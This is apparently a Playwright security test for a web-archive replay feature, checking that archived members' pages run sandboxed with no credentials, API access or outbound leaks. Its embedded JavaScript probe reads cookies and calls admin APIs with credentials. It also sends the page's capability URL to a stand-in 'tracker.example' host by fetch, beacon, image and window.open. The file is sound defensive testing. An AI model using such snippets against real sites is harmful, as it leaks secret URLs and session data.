"""A members' page in Chromium: it is whole on its own origin, and gets at nothing that the reader may do elsewhere."""

from __future__ import annotations

from base64 import b64decode
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, Page

from holdfast.auth.roles import Role
from holdfast.auth.users import add_user, link_url, make_link
from holdfast.sources import registry
from holdfast.wiring.archive import Archive
from tests.archive import Shot, build_archive
from tests.flow.replay.stage import Leaks, browser, leaks, serving

__all__ = ["browser", "leaks"]

_DOT = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
_CLUB = "http://club.example/"
_OTHER = "http://other.example/secret"
_SCRIPT = """
const told = {}, all = [];
const attempt = (name, act) => all.push((async () => {
  try { told[name] = String(await act()) } catch (error) { told[name] = error.name } })());
attempt('origin', () => self.origin);
attempt('cookie', () => document.cookie);
attempt('read', async () => (await fetch('APP/api/admin/jobs', {credentials: 'include'})).status);
attempt('search', async () => (await fetch('APP/api/search?q=club', {credentials: 'include'})).status);
attempt('write', async () => (await fetch('APP/api/reports', {method: 'POST', credentials: 'include', mode: 'no-cors',
  body: '{}'})).type);
const root = location.href.match(/^.*?\\/![^\\/]+/)[0];
attempt('others', async () => (await fetch(root + '/web/2024id_/OTHER')).status);
attempt('own', async () => (await fetch(root + '/web/2024id_/CLUBdata.json')).status);
attempt('tell', async () => (await fetch('http://tracker.example/?' + location.href, {mode: 'no-cors'})).type);
attempt('beacon', () => navigator.sendBeacon('http://tracker.example/?' + location.href));
attempt('window', () => window.open('http://tracker.example/?' + location.href));
attempt('top', () => { top.document.title = 'taken'; return top.document.cookie });
const picture = new Image(); picture.src = 'http://tracker.example/?' + location.href; document.body.append(picture);
Promise.allSettled(all).then(() => {
  document.getElementById('out').textContent = JSON.stringify({...told, done: 'yes'}) });
"""


def _html(script: str) -> str:
    return (
        "<!doctype html><html><head><title>Club</title><style>@font-face{font-family:x;src:url(/x.woff2)}</style>"
        f'</head><body><img id="dot" src="/dot.png"><pre id="out"></pre><a id="next" href="/next">next</a>'
        f"<script>{script}</script></body></html>"
    )


def _xml(script: str) -> str:
    """Return a page that gets no script of ours: what holds it is the browser alone."""
    return (
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><img id="dot" src="/dot.png"/><pre id="out"></pre>'
        f"<script>//<![CDATA[\n{script}\n//]]></script></body></html>"
    )


def _shots(port: int) -> list[Shot]:
    script = _SCRIPT.replace("APP", f"http://localhost:{port}").replace("OTHER", _OTHER).replace("CLUB", _CLUB)
    club = [
        Shot(url=_CLUB, body=_html(script), source="club"),
        Shot(url=f"{_CLUB}bare", body=_xml(script), media_type="application/xhtml+xml", source="club"),
        Shot(url=f"{_CLUB}dot.png", body=_DOT, media_type="image/png", source="club"),
        Shot(url=f"{_CLUB}data.json", body=b"{}", media_type="application/json", source="club"),
        Shot(url=f"{_CLUB}next", body="<html><body><p id=there>the next page</p></body></html>", source="club"),
    ]
    return [*club, Shot(url=_OTHER, body="<p>of other members</p>", source="other")]


@pytest.fixture
def archive(tmp_path: Path) -> Iterator[Archive]:
    """An empty archive."""
    made = build_archive(tmp_path / "home", [])
    yield made
    made.database.close()


def _fill(archive: Archive, port: int) -> None:
    build_archive(archive.home, _shots(port)).database.close()
    with archive.database.write() as session:
        for code in ("club", "other"):
            registry.edit(session, archive.clock, code, {"visibility": "members"})


def _sign_in(archive: Archive, page: Page, port: int) -> None:
    with archive.database.write() as session:
        member = add_user(session, archive.clock, name="ada", role=Role.MEMBER)
        secret = make_link(session, archive.clock, member, signs_in=True)
    page.goto(link_url(f"http://localhost:{port}", secret))
    page.wait_for_url(f"http://localhost:{port}/")


def _framed(page: Page, url: str) -> Frame:
    """Return the frame of a viewer that shows an address by its capability."""
    page.goto(url)
    # A page that was never elsewhere: Chromium lets no other blank page frame an address of this machine.
    viewer = page.context.new_page()
    viewer.set_content(f'<iframe src="{page.url}"></iframe>')
    found = viewer.frames[1]
    found.wait_for_function("document.getElementById('out')?.textContent.includes('done')", timeout=15_000)
    return found


def test_a_members_page_is_whole_and_can_do_nothing(archive: Archive, browser: Browser, leaks: Leaks) -> None:
    with serving(archive) as port:
        _fill(archive, port)
        context = browser.new_context()
        # A reader who is signed in at the application: that must never travel with what an archived page does.
        session = {"name": "session", "value": "secret", "url": f"http://localhost:{port}"}
        context.add_cookies([session])  # type: ignore[list-item]
        page = context.new_page()
        _sign_in(archive, page, port)
        asked: list[str] = []
        context.on("requestfinished", lambda request: asked.append(request.url))
        for address in (_CLUB, f"{_CLUB}bare"):
            frame = _framed(page, f"http://localhost:{port}/web/2024/{address}")
            told: dict[str, str] = frame.evaluate("JSON.parse(document.getElementById('out').textContent)")

            assert frame.url.startswith(f"http://replay.localhost:{port}/!"), "by a capability"
            assert frame.evaluate("document.getElementById('dot').naturalWidth") == 1, "with its pictures"
            assert told["origin"] == "null"
            assert "secret" not in str(told), told
            assert told["others"] != "200", "no page reads what other members' sources have"
            # With our own script what a page asks for is led into the archive; without it, the browser refuses.
            for name in ("read", "search", *(("write", "tell") if address != _CLUB else ())):
                assert told[name] not in ("200", "201", "opaque"), (name, told)
            assert told["window"] in ("null", "TypeError"), told
        page.goto(f"http://localhost:{port}/web/2024/{_CLUB}")
        assert "/!" in page.url
        assert page.locator("#out").text_content() == "", "no script runs in a window of its own"
        page.click("#next")
        page.wait_for_selector("#there")
        assert "/!" in page.url, "what it links to is opened the same way"
        api = [url for url in asked if url.startswith(f"http://localhost:{port}/api")]
        context.close()
    assert api == []
    assert leaks.asked == [], "nothing left the archive, no address with a capability above all"


def test_without_the_capability_there_is_no_such_page(archive: Archive, browser: Browser) -> None:
    with serving(archive) as port:
        _fill(archive, port)
        page = browser.new_page()

        answer = page.goto(f"http://replay.localhost:{port}/web/2024/{_CLUB}")

        assert answer is not None
        assert answer.status == 404
        page.close()
